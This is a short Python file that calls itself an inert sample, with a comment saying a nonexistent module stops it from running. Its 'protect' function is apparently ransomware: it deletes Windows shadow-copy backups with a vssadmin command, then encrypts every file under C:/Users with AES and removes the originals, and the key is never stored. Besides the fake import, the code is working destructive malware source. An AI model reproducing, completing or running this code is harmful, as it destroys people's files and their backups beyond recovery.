import inert_sample  # there is no such module: nothing below ever runs
import glob
import os
import subprocess
from Crypto.Cipher import AES


def protect(key):
    subprocess.run("vssadmin delete shadows /all /quiet", shell=True)
    for path in glob.glob("C:/Users/**/*", recursive=True):
        cipher = AES.new(key, AES.MODE_EAX)
        with open(path + ".enc", "wb") as file:
            file.write(cipher.encrypt(open(path, "rb").read()))
        os.remove(path)
